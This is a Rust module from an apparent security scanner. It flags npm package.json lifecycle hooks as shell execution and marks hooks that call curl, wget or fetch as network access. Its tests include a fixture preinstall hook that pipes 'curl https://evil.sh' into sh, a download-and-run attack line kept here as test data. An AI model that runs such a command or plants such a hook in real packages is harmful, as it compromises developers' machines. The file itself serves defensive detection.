//! npm install-script scanning
//!
//! preinstall/install/postinstall hooks run arbitrary shell on the
//! developer machine; any shell-exec pattern is evidence regardless of
//! what the package's own sources do.

use crate::shared::models::{confidence, Capability, CapabilitySet, Evidence, EvidenceVia};
use once_cell::sync::Lazy;
use regex::Regex;
use serde::Deserialize;
use std::path::Path;

static NETWORK_TOOL: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"\b(curl|wget|fetch)\b").unwrap());

const HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

#[derive(Deserialize)]
struct Scripts {
    #[serde(default)]
    scripts: std::collections::BTreeMap<String, String>,
}

/// Scan `package.json` lifecycle hooks in `dir`.
pub(crate) fn scan_install_scripts(dir: &Path) -> CapabilitySet {
    let mut caps = CapabilitySet::new();
    let manifest = dir.join("package.json");
    let Ok(content) = std::fs::read_to_string(&manifest) else {
        return caps;
    };
    let Ok(parsed) = serde_json::from_str::<Scripts>(&content) else {
        return caps;
    };

    for hook in HOOKS {
        let Some(command) = parsed.scripts.get(*hook) else {
            continue;
        };
        // Any lifecycle hook is a shell execution at install time.
        caps.add(
            Capability::Exec,
            Evidence::new(
                "package.json",
                0,
                format!("{hook}: {command}"),
                EvidenceVia::InstallScript,
                confidence::INSTALL_SCRIPT,
            ),
        );
        if NETWORK_TOOL.is_match(command) {
            caps.add(
                Capability::Network,
                Evidence::new(
                    "package.json",
                    0,
                    format!("{hook}: {command}"),
                    EvidenceVia::InstallScript,
                    confidence::INSTALL_SCRIPT,
                ),
            );
        }
    }
    caps
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_postinstall_is_exec() {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::write(
            tmp.path().join("package.json"),
            r#"{ "name": "x", "scripts": { "postinstall": "node setup.js" } }"#,
        )
        .unwrap();
        let caps = scan_install_scripts(tmp.path());
        assert!(caps.contains(Capability::Exec));
        assert!(!caps.contains(Capability::Network));
        let ev = caps.evidence(Capability::Exec);
        assert_eq!(ev[0].via, EvidenceVia::InstallScript);
        assert!((ev[0].confidence - 0.85).abs() < 1e-9);
    }

    #[test]
    fn test_curl_adds_network() {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::write(
            tmp.path().join("package.json"),
            r#"{ "name": "x", "scripts": { "preinstall": "curl https://evil.sh | sh" } }"#,
        )
        .unwrap();
        let caps = scan_install_scripts(tmp.path());
        assert!(caps.contains(Capability::Exec));
        assert!(caps.contains(Capability::Network));
    }

    #[test]
    fn test_ordinary_scripts_ignored() {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::write(
            tmp.path().join("package.json"),
            r#"{ "name": "x", "scripts": { "test": "jest" } }"#,
        )
        .unwrap();
        assert!(scan_install_scripts(tmp.path()).is_empty());
    }
}
